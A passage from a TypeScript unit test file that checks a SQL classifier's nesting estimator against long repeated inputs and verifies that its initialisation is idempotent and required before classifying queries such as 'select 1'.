    expect(estimateNesting(`select "${'+'.repeat(5000)}"`)).toBeLessThan(10);
    expect(estimateNesting(`select 1${'+1'.repeat(5000)}`)).toBeGreaterThanOrEqual(5000);
  });
});

describe('initClassifier', () => {
  it('is idempotent', async () => {
    await Promise.all([initClassifier(), initClassifier()]);
    await initClassifier();
    expect(classifySql('select 1').class).toBe('read');
  });

  it('must run before classifySql, which otherwise throws a clear error', async () => {
    vi.resetModules();
    const fresh = await import('../../src/policy/sql/classify.js');
    expect(() => fresh.classifySql('select 1')).toThrow(/initClassifier/);
    try {
      fresh.classifySql('select 1');
    } catch (e) {
      expect((e as { code?: string }).code).toBe('HOOP_SQL_CLASSIFIER_NOT_READY');
    }
    await fresh.initClassifier();
    expect(fresh.classifySql('select 1').class).toBe('read');
  });
});
